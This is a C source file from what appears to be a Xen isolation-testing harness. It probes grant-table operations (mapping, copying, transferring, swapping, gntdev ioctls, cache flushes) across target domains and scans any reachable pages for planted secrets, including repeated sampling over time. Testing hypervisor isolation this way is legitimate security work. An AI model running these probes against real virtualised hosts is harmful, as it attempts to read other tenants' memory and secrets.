// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack_grants.c - every grant reference of every target, by everything that
 * the grant table interface has (grant_table.h), and what lies behind those
 * that may be mapped, looked at again and again while the guest works.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define __XEN_TOOLS__ 1
#include <xen/xen.h>
#include <xen/grant_table.h>
#include <xen/sys/gntdev.h>

/* The most a guest can have: 64 frames of 512; and a bit beyond the end. */
#define REFS	(64u * 512u + 512u)
#define BATCH	512u

static long grant_op(unsigned int op, void *arg, unsigned int nr)
{
	return xen_call(__HYPERVISOR_grant_table_op, op, xva(arg), nr, 0, 0);
}

/* Maps @nr references at the window's beginning. */
static struct gnttab_map_grant_ref *map(const struct target *t,
					const uint32_t *ref, unsigned int nr,
					unsigned int first, uint32_t flags)
{
	struct gnttab_map_grant_ref *op = (void *)xbuf;

	memset(op, 0, nr * sizeof(*op));
	for (unsigned int i = 0; i < nr; i++) {
		op[i].host_addr = xinfo.window_gfn[first + i] * PAGE_BYTES;
		op[i].flags = flags;
		op[i].ref = ref[i];
		op[i].dom = t->domid;
		op[i].status = -1;
	}
	grant_op(GNTTABOP_map_grant_ref, op, nr);
	return op;
}

static void unmap(unsigned int window, uint32_t handle)
{
	struct gnttab_unmap_grant_ref *op = (void *)(xbuf + VGA_BUF_BYTES / 2);

	memset(op, 0, sizeof(*op));
	op->host_addr = xinfo.window_gfn[window] * PAGE_BYTES;
	op->handle = handle;
	grant_op(GNTTABOP_unmap_grant_ref, op, 1);
}

/* Which can be mapped, or were not tried: a byte for each. */
static uint8_t can_map[TARGETS_MAX][REFS];

/* Every one but in the shortest of runs. */
static unsigned int stride(void)
{
	return step > 64 ? 8 : 1;
}

static void try_map(unsigned int nr_target, uint32_t flags, const char *what)
{
	const struct target *t = &targets[nr_target];
	struct attempt *a = attempt_begin(what, t);
	struct gnttab_map_grant_ref *op;
	uint32_t ref[BATCH];

	for (unsigned int first = 0; first < REFS; first += BATCH * stride()) {
		for (unsigned int i = 0; i < BATCH; i++)
			ref[i] = first + i * stride();
		op = map(t, ref, BATCH, 0, flags);
		for (unsigned int i = 0; i < BATCH; i++) {
			attempt_grant(a, ref[i], op[i].status);
			if (op[i].status)
				continue;
			if (ref[i] < REFS)
				can_map[nr_target][ref[i]] = 1;
			if (flags & GNTMAP_host_map) {
				xen_look(i, 1);
				attempt_search(a, ref[i],
					       xpage + (size_t)i * PAGE_BYTES,
					       PAGE_BYTES);
			}
			unmap(i, op[i].handle);
		}
	}
	attempt_end(a);
}

static void try_copy_from(const struct target *t)
{
	struct attempt *a = attempt_begin("grant.copy_from", t);
	struct gnttab_copy *op = (void *)xbuf;
	uint8_t *to = xbuf + VGA_BUF_BYTES / 2;
	unsigned int page = (unsigned int)(to - xbuf) / PAGE_BYTES;

	for (uint32_t first = 0; first < REFS; first += 64 * stride()) {
		memset(op, 0, 64 * sizeof(*op));
		for (unsigned int i = 0; i < 64; i++) {
			op[i].source.u.ref = first + i * stride();
			op[i].source.domid = t->domid;
			op[i].dest.u.gmfn = xinfo.buf_gfn[page + i];
			op[i].dest.domid = DOMID_SELF;
			op[i].len = PAGE_BYTES;
			op[i].flags = GNTCOPY_source_gref;
			op[i].status = -1;
		}
		/* Positive: how many of the last are left to do. */
		for (long done = 0, left; done < 64; done = 64 - left) {
			left = grant_op(GNTTABOP_copy, op + done,
					(unsigned int)(64 - done));
			if (left <= 0)
				break;
		}
		for (unsigned int i = 0; i < 64; i++) {
			attempt_grant(a, first + i * stride(), op[i].status);
			if (!op[i].status)
				attempt_search(a, first + i * stride(),
					       to + (size_t)i * PAGE_BYTES,
					       PAGE_BYTES);
		}
	}
	attempt_end(a);
}

/*
 * Not to those that may be mapped to write: that would be the same right, and
 * destroy what is in flight.
 */
static void try_copy_to(unsigned int nr_target)
{
	const struct target *t = &targets[nr_target];
	struct attempt *a = attempt_begin("grant.copy_to", t);
	struct gnttab_copy *op = (void *)xbuf;
	unsigned int page = VGA_BUF_BYTES / 2 / PAGE_BYTES;

	memset(xbuf + VGA_BUF_BYTES / 2, 0x5a, PAGE_BYTES);
	for (uint32_t ref = 0; ref < REFS; ref += step > 1 ? 7 : 1) {
		if (can_map[nr_target][ref])
			continue;
		memset(op, 0, sizeof(*op));
		op->source.u.gmfn = xinfo.buf_gfn[page];
		op->source.domid = DOMID_SELF;
		op->dest.u.ref = ref;
		op->dest.domid = t->domid;
		op->len = PAGE_BYTES;
		op->flags = GNTCOPY_dest_gref;
		op->status = -1;
		grant_op(GNTTABOP_copy, op, 1);
		attempt_grant(a, ref, op->status);
	}
	attempt_end(a);
}

/* Frames instead of references. */
static void try_copy_frames(const struct target *t)
{
	struct attempt *a = attempt_begin("grant.copy_frame", t);
	uint64_t end = RAM_FIRST_GFN + ram_frames(t);
	unsigned int page = VGA_BUF_BYTES / 2 / PAGE_BYTES;
	struct gnttab_copy *op = (void *)xbuf;

	for (uint64_t gfn = RAM_FIRST_GFN; gfn < end;
	     gfn += ram_step(t)) {
		memset(op, 0, sizeof(*op));
		op->source.u.gmfn = gfn;
		op->source.domid = t->domid;
		op->dest.u.gmfn = xinfo.buf_gfn[page];
		op->dest.domid = DOMID_SELF;
		op->len = PAGE_BYTES;
		op->status = -1;
		grant_op(GNTTABOP_copy, op, 1);
		attempt_grant(a, gfn, op->status);
		if (!op->status)
			attempt_search(a, gfn, xbuf + VGA_BUF_BYTES / 2,
				       PAGE_BYTES);
	}
	attempt_end(a);
}

static void try_transfer(const struct target *t)
{
	struct attempt *a = attempt_begin("grant.transfer", t);
	struct gnttab_transfer *op = (void *)xbuf;
	unsigned int page = VGA_BUF_BYTES / PAGE_BYTES - 1;

	for (uint32_t ref = 0; ref < REFS; ref += step) {
		memset(op, 0, sizeof(*op));
		op->mfn = xinfo.buf_gfn[page];
		op->domid = t->domid;
		op->ref = ref;
		op->status = -1;
		grant_op(GNTTABOP_transfer, op, 1);
		attempt_grant(a, ref, op->status);
	}
	attempt_end(a);
}

/* The table as a whole. */
static void try_table(const struct target *t)
{
	struct gnttab_setup_table *setup = (void *)xbuf;
	struct gnttab_query_size *size = (void *)xbuf;
	struct gnttab_get_version *version = (void *)xbuf;
	struct gnttab_get_status_frames *status = (void *)xbuf;
	xen_pfn_t *frames = (void *)(xbuf + PAGE_BYTES);
	struct attempt *a;
	long ret;

	a = attempt_begin("grant.setup_table", t);
	for (unsigned int nr = 1; nr <= 64; nr *= 4) {
		memset(xbuf, 0, 2 * PAGE_BYTES);
		setup->dom = t->domid;
		setup->nr_frames = nr;
		setup->status = -1;
		set_xen_guest_handle_raw(setup->frame_list,
					 (xen_pfn_t *)xva(frames));
		ret = grant_op(GNTTABOP_setup_table, setup, 1);
		if (ret)
			attempt_errno(a, nr, ret > 0 ? -EIO : ret);
		else
			attempt_grant(a, nr, setup->status);
	}
	attempt_end(a);

	a = attempt_begin("grant.query_size", t);
	memset(xbuf, 0, PAGE_BYTES);
	size->dom = t->domid;
	size->status = -1;
	ret = grant_op(GNTTABOP_query_size, size, 1);
	if (ret)
		attempt_errno(a, 0, ret);
	else
		attempt_grant(a, 0, size->status);
	attempt_end(a);

	a = attempt_begin("grant.get_version", t);
	memset(xbuf, 0, PAGE_BYTES);
	version->dom = t->domid;
	attempt_errno(a, 0, grant_op(GNTTABOP_get_version, version, 1));
	attempt_end(a);

	a = attempt_begin("grant.get_status_frames", t);
	memset(xbuf, 0, PAGE_BYTES);
	status->nr_frames = 1;
	status->dom = t->domid;
	status->status = -1;
	set_xen_guest_handle_raw(status->frame_list, (uint64_t *)xva(frames));
	ret = grant_op(GNTTABOP_get_status_frames, status, 1);
	if (ret)
		attempt_errno(a, 0, ret);
	else
		attempt_grant(a, 0, status->status);
	attempt_end(a);

	a = attempt_begin("grant.dump_table", t);
	memset(xbuf, 0, PAGE_BYTES);
	xbuf[0] = (uint8_t)t->domid;
	xbuf[1] = (uint8_t)(t->domid >> 8);
	attempt_errno(a, 0, grant_op(GNTTABOP_dump_table, xbuf, 1));
	attempt_end(a);
}

/* The operation has no domain: it is about the caller's own table. */
static void try_swap(void)
{
	static const struct target self = { .role = "self" };
	struct attempt *a = attempt_begin("grant.swap", &self);
	struct gnttab_swap_grant_ref *op = (void *)xbuf;

	/* With itself: what is in use must not move under this domain. */
	for (uint32_t ref = 0; ref < REFS; ref += step * 8) {
		op->ref_a = ref;
		op->ref_b = ref;
		op->status = -1;
		grant_op(GNTTABOP_swap_grant_ref, op, 1);
		attempt_grant(a, ref, op->status);
	}
	op->ref_a = 0xffffffff;
	op->ref_b = 0x80000000;
	op->status = -1;
	grant_op(GNTTABOP_swap_grant_ref, op, 1);
	attempt_grant(a, OBJECTS_MAX, op->status);
	attempt_end(a);
}

/* Handles that this domain never got: all mappings are Linux's or ours. */
static void try_unmap(void)
{
	static const struct target self = { .role = "self" };
	struct attempt *a = attempt_begin("grant.unmap_stray_handle", &self);
	struct gnttab_unmap_grant_ref *op = (void *)xbuf;

	for (uint32_t handle = 0; handle < 65536; handle += 17) {
		memset(op, 0, sizeof(*op));
		op->host_addr = xinfo.window_gfn[0] * PAGE_BYTES;
		op->handle = handle + (1u << 20);
		op->status = -1;
		grant_op(GNTTABOP_unmap_grant_ref, op, 1);
		attempt_grant(a, handle, op->status);
	}
	attempt_end(a);
}

void attack_grants(void)
{
	xen_open();
	for (unsigned int i = 0; i < nr_targets; i++) {
		for (uint32_t ref = 0; ref < REFS; ref++)
			can_map[i][ref] = ref % stride() != 0;
		try_map(i, GNTMAP_host_map | GNTMAP_readonly, "grant.map_ro");
		try_map(i, GNTMAP_host_map, "grant.map_rw");
		try_map(i, GNTMAP_device_map | GNTMAP_host_map,
			"grant.map_device");
		try_copy_from(&targets[i]);
		try_copy_to(i);
		try_copy_frames(&targets[i]);
		try_transfer(&targets[i]);
		try_table(&targets[i]);
	}
	try_swap();
	try_unmap();
}

/* ---- as any process with /dev/xen/gntdev can ---------------------------- */

void attack_gntdev(void)
{
	int fd = open("/dev/xen/gntdev", O_RDWR | O_CLOEXEC);

	for (unsigned int n = 0; n < nr_targets; n++) {
		struct attempt *a = attempt_begin("gntdev.map", &targets[n]);

		for (uint32_t ref = 0; ref < REFS; ref += step) {
			struct ioctl_gntdev_map_grant_ref op = {
				.count = 1,
				.refs = { { targets[n].domid, ref } },
			};
			struct ioctl_gntdev_unmap_grant_ref end = { .count =
									    1 };
			void *p;

			if (fd < 0 ||
			    ioctl(fd, IOCTL_GNTDEV_MAP_GRANT_REF, &op)) {
				attempt_errno(a, ref, -errno);
				continue;
			}
			p = mmap(NULL, PAGE_BYTES, PROT_READ | PROT_WRITE,
				 MAP_SHARED, fd, (off_t)op.index);
			attempt_errno(a, ref, p == MAP_FAILED ? -errno : 0);
			if (p != MAP_FAILED) {
				attempt_search(a, ref, p, PAGE_BYTES);
				munmap(p, PAGE_BYTES);
			}
			end.index = op.index;
			ioctl(fd, IOCTL_GNTDEV_UNMAP_GRANT_REF, &end);
		}
		attempt_end(a);
	}
	close(fd);
}

/* ---- caches, by machine address ----------------------------------------- */

void attack_cache(uint64_t first_frame, uint64_t nr_frames)
{
	static const struct target host = { .role = "host" };
	struct gnttab_cache_flush *op;
	struct attempt *a;

	xen_open();
	op = (void *)xbuf;
	a = attempt_begin("grant.cache_flush_ref", &host);
	for (uint32_t i = 0; i < REFS; i += step) {
		memset(op, 0, sizeof(*op));
		op->a.ref = i;
		op->length = PAGE_BYTES;
		op->op = GNTTAB_CACHE_CLEAN | GNTTAB_CACHE_SOURCE_GREF;
		attempt_errno(a, i, grant_op(GNTTABOP_cache_flush, op, 1));
	}
	attempt_end(a);
	/*
	 * A refusal takes Xen a look at all that the frame's owner has granted.
	 */
	a = attempt_begin("grant.cache_flush", &host);
	for (uint64_t i = 0; i < nr_frames; i += step) {
		memset(op, 0, sizeof(*op));
		op->a.dev_bus_addr = (first_frame + i) * PAGE_BYTES;
		op->length = PAGE_BYTES;
		op->op = GNTTAB_CACHE_CLEAN;
		attempt_errno(a, first_frame + i,
			      grant_op(GNTTABOP_cache_flush, op, 1));
	}
	attempt_end(a);
}

/* ---- over time ---------------------------------------------------------- */

/*
 * Maps all that can be mapped, and looks at all of it until the time is over:
 * what of the secrets ever lies there, and in which pages.  The first target is
 * the one with the secrets; the others get a quarter of the time.
 */
void attack_sample(unsigned int seconds)
{
	struct attempt *a;
	time_t end;

	xen_open();
	for (unsigned int n = 0; n < nr_targets; n++) {
		static uint32_t ref[VGA_WINDOW_PAGES], handle[VGA_WINDOW_PAGES];
		const struct target *t = &targets[n];
		struct gnttab_map_grant_ref *op;
		static uint32_t all[REFS];
		unsigned int nr_all = 0;

		for (uint32_t first = 0; first < REFS; first += BATCH) {
			uint32_t some[BATCH];

			for (unsigned int i = 0; i < BATCH; i++)
				some[i] = first + i;
			op = map(t, some, BATCH, 0,
				 GNTMAP_host_map | GNTMAP_readonly);
			for (unsigned int i = 0; i < BATCH; i++) {
				if (op[i].status)
					continue;
				all[nr_all++] = some[i];
				unmap(i, op[i].handle);
			}
		}
		a = attempt_begin("sample", t);
		end = time(NULL) + (time_t)(n ? (seconds + 3) / 4 : seconds);
		/* As much as fits into the window, in turns. */
		for (unsigned int from = 0, turn = 0;
		     nr_all &&
		     (time(NULL) < end || turn * VGA_WINDOW_PAGES < nr_all);
		     turn++) {
			unsigned int nr = nr_all - from < VGA_WINDOW_PAGES ?
				nr_all - from : VGA_WINDOW_PAGES;

			memcpy(ref, all + from, nr * sizeof(*ref));
			for (unsigned int k = 0; k < nr; k += BATCH) {
				unsigned int part =
					nr - k < BATCH ? nr - k : BATCH;

				op = map(t, ref + k, part, k, GNTMAP_host_map |
					 GNTMAP_readonly);
				for (unsigned int i = 0; i < part; i++) {
					handle[k + i] = op[i].status ?
						UINT32_MAX : op[i].handle;
					attempt_grant(a, ref[k + i],
						      op[i].status);
				}
			}
			/* Several looks at each before they are let go. */
			for (unsigned int look = 0; look < 4; look++) {
				for (unsigned int i = 0; i < nr; i++) {
					if (handle[i] == UINT32_MAX)
						continue;
					xen_look(i, 1);
					attempt_search(a, ref[i],
						xpage + (size_t)i * PAGE_BYTES,
						PAGE_BYTES);
				}
			}
			for (unsigned int i = 0; i < nr; i++)
				if (handle[i] != UINT32_MAX)
					unmap(i, handle[i]);
			from += nr;
			if (from >= nr_all)
				from = 0;
		}
		attempt_end(a);
	}
}
